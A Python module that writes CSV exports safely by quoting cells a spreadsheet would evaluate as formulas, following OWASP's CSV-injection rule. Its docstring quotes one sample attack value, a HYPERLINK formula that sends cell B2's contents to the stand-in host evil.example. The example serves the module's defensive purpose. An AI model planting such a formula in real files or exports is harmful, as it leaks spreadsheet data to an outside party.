"""The one CSV writer every export goes through: cells a spreadsheet would evaluate are neutralised.

A supplier may name itself ``=HYPERLINK("http://evil.example/?x="&B2,"Låsløs AS")``; opened in a
spreadsheet, an unescaped cell like that runs. OWASP's rule (CSV injection): a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text and never evaluate. Plain numbers (``-0.0312``) cannot be formulas and are left alone,
so scores stay numeric.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> str:
    """The cell as text, with a leading quote where a spreadsheet would otherwise evaluate it."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """A header and one line per row, every cell made spreadsheet-safe (the header too)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([spreadsheet_safe(c) for c in columns])
    for row in rows:
        writer.writerow([spreadsheet_safe(row.get(c)) for c in columns])
    return out.getvalue()
